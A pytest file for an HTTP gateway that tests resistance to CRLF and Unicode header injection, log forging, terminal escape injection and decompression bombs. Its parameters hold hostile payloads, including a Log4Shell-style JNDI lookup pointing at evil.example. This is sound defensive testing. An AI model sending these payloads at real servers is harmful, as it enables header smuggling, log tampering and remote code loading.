"""Nothing that comes in ends a line of what goes out, and content is passed on as it is."""

from __future__ import annotations

import gzip
import zlib

import orjson
import pytest

from gateway.config.snapshot import Cohort, ServiceTraffic
from tests.support.rig import Rig, topology, traffic

#: What would begin a line of its own, for whoever takes it for an end of line.
ENDS = (
    b"\r\nX-Evil: 1",
    b"\nX-Evil: 1",
    b"\rX-Evil: 1",
    b"\0X-Evil: 1",
    b"%0d%0aX-Evil: 1",
    b"\xe5\x98\x8a\xe5\x98\x8dX-Evil: 1",
    b"\xc2\x85X-Evil: 1",
)

#: Where a client puts it.
PLACES = {
    "the target": b"GET /%s HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "the query": b"GET /?gw_override=%s HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "the host": b"GET / HTTP/1.1\r\nHost: a.example%s\r\n\r\n",
    "the request's id": b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Request-Id: x%s\r\n\r\n",
    "the trace": b"GET / HTTP/1.1\r\nHost: a.example\r\nTraceparent: 00-%s\r\n\r\n",
    "the cohort's cookie": b"GET / HTTP/1.1\r\nHost: a.example\r\nCookie: gw_cohort=%s\r\n\r\n",
    "an override": b"GET / HTTP/1.1\r\nHost: a.example\r\nGW-Override: x%s\r\n\r\n",
    "the user's header": b"GET / HTTP/1.1\r\nHost: a.example\r\nX-User: u%s\r\n\r\n",
    "a forwarded host": b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Forwarded-Host: a%s\r\n\r\n",
    "a forwarded address": b"GET / HTTP/1.1\r\nHost: a.example\r\nForwarded: for=1.2.3.4%s\r\n\r\n",
    "an upgrade": (
        b"GET / HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: w%s\r\n\r\n"
    ),
}


def _lines(data: bytes) -> list[bytes]:
    """Return the lines of all heads, as the most careless reader ends them."""
    return data.replace(b"\r", b"\n").replace(b"\0", b"\n").lower().split(b"\n")


@pytest.mark.parametrize("end", ENDS)
@pytest.mark.parametrize("place", PLACES)
def test_nothing_a_client_says_ends_a_line(rig: Rig, place: str, end: bytes) -> None:
    rig.serve(
        topology(
            cohort=Cohort(header="X-User", secret=b"0123456789abcdef"),
            trusted_proxies=("192.0.2.1/32",),
        ),
        traffic(ServiceTraffic(service="web", stable="blue", weight=5000), release="r1"),
    )
    rig.client.send(PLACES[place] % end)
    if rig.dialling:
        backend = rig.backend()
        sent = bytes(backend.transport.sent)
        # A bare end of line splits the client's own head at most: a field that it may send anyway.
        own = end.startswith(b"\r\n")
        assert own or b"x-evil: 1" not in _lines(sent)
        assert sent.count(b"\r") == sent.count(b"\n") == sent.count(b"\r\n")
        backend.ok()
    received = bytes(rig.client.transport.sent)
    assert b"x-evil: 1" not in _lines(received)
    rig.over()


@pytest.mark.parametrize("end", [b"\nX-Evil: 1", b"\rX-Evil: 1", b"\0X-Evil: 1", b"\r\n X-Evil: 1"])
@pytest.mark.parametrize(
    "head",
    [
        b"HTTP/1.1 200 OK%s\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 302 Found\r\nLocation: /a%s\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nSet-Cookie: a=b%s\r\nContent-Length: 0\r\n\r\n",
        (
            b"HTTP/1.1 103 Early Hints\r\nLink: </a>%s\r\n\r\n"
            b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
        ),
    ],
)
def test_nothing_a_backend_says_ends_a_line(rig: Rig, head: bytes, end: bytes) -> None:
    rig.client.get()
    backend = rig.backend()
    backend.answers(head % end)
    assert rig.client.answer().status == 502
    assert b"x-evil: 1" not in _lines(bytes(rig.client.transport.sent))
    assert backend.cut
    rig.over([502])


@pytest.mark.parametrize("place", ["Referer", "User-Agent"])
@pytest.mark.parametrize(
    "said",
    [
        b'"}\\u000a{"status":200,"client":"10.0.0.1"',
        b"\xc2\x9b2J\xc2\x9b31m",
        b"\xc2\x85{}\xe2\x80\xa8{}",
        b"\xe2\x80\xaetxt.exe",
        b"\xff\xfe" * 5000,
        b"${jndi:ldap://evil.example/}\t%n%s",
    ],
)
def test_what_a_client_says_is_one_line_of_the_log(rig: Rig, place: str, said: bytes) -> None:
    """No second line in any reading, nothing that moves a terminal, no more than a pipe takes."""
    lines: list[bytes] = []
    rig.core.recorder.log_to(lines.append)
    rig.client.send(
        f"FROB-1 /?a={'b' * 9000} HTTP/1.1\r\nHost: a.example\r\n{place}: ".encode()
        + said
        + b"\r\n\r\n"
    )
    rig.backend().ok()
    (line,) = lines
    assert len(line) <= 4096
    text = line.decode()
    assert text.endswith("\n")
    assert text[:-1].isprintable()
    assert len(text.splitlines()) == 1
    told = orjson.loads(line)
    assert (told["method"], told["status"], told["client"]) == ("FROB-1", 200, "192.0.2.1")


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br"])
def test_compressed_content_is_passed_on_as_it_is(whole: Rig, coding: str) -> None:
    """A bomb of a mebibyte in a kibibyte, both ways: it is as small behind as before."""
    plain = b"\0" * 1024 * 1024
    bomb = {"gzip": gzip.compress(plain), "deflate": zlib.compress(plain), "br": b"no brotli"}
    content = bomb[coding]
    whole.client.send(
        f"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Encoding: {coding}\r\n"
        f"Accept-Encoding: {coding}\r\nContent-Length: {len(content)}\r\n\r\n".encode()
        + content
    )
    backend = whole.backend()
    fields = backend.request.lower()
    assert f"content-encoding: {coding}".encode() in fields
    assert f"accept-encoding: {coding}".encode() in fields
    assert backend.take() == content
    backend.ok(content, f"Content-Encoding: {coding}\r\n")
    answer = whole.client.answer()
    assert answer.body == content
    assert answer.field(b"content-encoding") == coding.encode()
    whole.over([200])
